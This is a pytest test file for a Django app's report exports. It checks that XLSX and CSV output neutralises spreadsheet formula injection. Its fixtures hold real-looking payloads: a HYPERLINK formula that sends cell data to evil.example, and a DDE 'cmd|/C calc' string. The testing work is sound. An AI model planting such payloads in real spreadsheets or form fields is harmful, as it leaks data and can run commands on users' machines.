"""Spreadsheet formula injection: text from forms and imports that a spreadsheet would run as a formula (=, +, -, @,
tab, CR first) is written as text by every export, XLSX and CSV, through the real export views; numbers stay numbers.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import EmployeeFactory, PlanFactory, ResultIndicatorFactory, ResultPlanFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+62 812 cmd"
TABBED = "\t=1+1"


@pytest.fixture
def crafted_names(kabupaten, agency, other_agency):
    agency.short_name, agency.name = HYPERLINK, HYPERLINK
    other_agency.short_name, other_agency.name = AT_SUM, AT_SUM
    agency.save()
    other_agency.save()
    return kabupaten


def export(client, period, table, fmt):
    response = client.get(reverse("reports:export", args=[period.pk, table, fmt]))
    assert response.status_code == 200
    return response


def test_the_dashboard_xlsx_writes_crafted_names_as_quoted_text_and_numbers_as_numbers(
    crafted_names, coordinator, client_for
):
    period = crafted_names["period"]
    sheet = load_workbook(io.BytesIO(export(client_for(coordinator), period, "overview", "xlsx").content)).active
    by_name = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name in (HYPERLINK, AT_SUM):
        cell = by_name[name][0]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)  # shown as typed, never run
        assert by_name[name][1].data_type == "n" and isinstance(by_name[name][1].value, int)


def test_the_dashboard_csv_puts_an_apostrophe_before_crafted_names_only(crafted_names, coordinator, client_for):
    period = crafted_names["period"]
    response = export(client_for(coordinator), period, "overview", "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in names and "'" + AT_SUM in names
    assert all(value.isdigit() for row in rows[1:] for value in row[1:])  # counts untouched


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_dashboard_table_neutralises_text(crafted_names, coordinator, client_for, fmt):
    period = crafted_names["period"]
    for table in ("overview", "overdue", "distribution"):
        response = export(client_for(coordinator), period, table, fmt)
        if fmt == "csv":
            text = response.content.decode("utf-8-sig")
            assert "\n=" not in text and "\n@" not in text and ",=" not in text and ",@" not in text
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f"
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        assert cell.quotePrefix


def test_the_plan_workbook_keeps_crafted_names_and_rhk_as_text(client_for, supervisor, agency, unit, period):
    employee = EmployeeFactory(agency=agency, unit=unit, supervisor=supervisor, name=AT_SUM, position_title=PLUS)
    plan = PlanFactory(employee=employee, period=period, stage="realisation", supervisor=supervisor)
    ResultIndicatorFactory(result=ResultPlanFactory(plan=plan, text=HYPERLINK), description=TABBED)
    response = client_for(supervisor).get(reverse("workflow:team_export"), {"period": period.pk})
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = {cell.value: cell for sheet in workbook for row in sheet.iter_rows(min_row=2) for cell in row}
    for crafted in (AT_SUM, PLUS, HYPERLINK, TABBED):
        assert (cells[crafted].data_type, cells[crafted].quotePrefix) == ("s", True), crafted
    numbers = workbook["Plans"]
    header = [cell.value for cell in numbers[1]]
    assert numbers.cell(2, header.index("Number of RHK") + 1).data_type == "n"
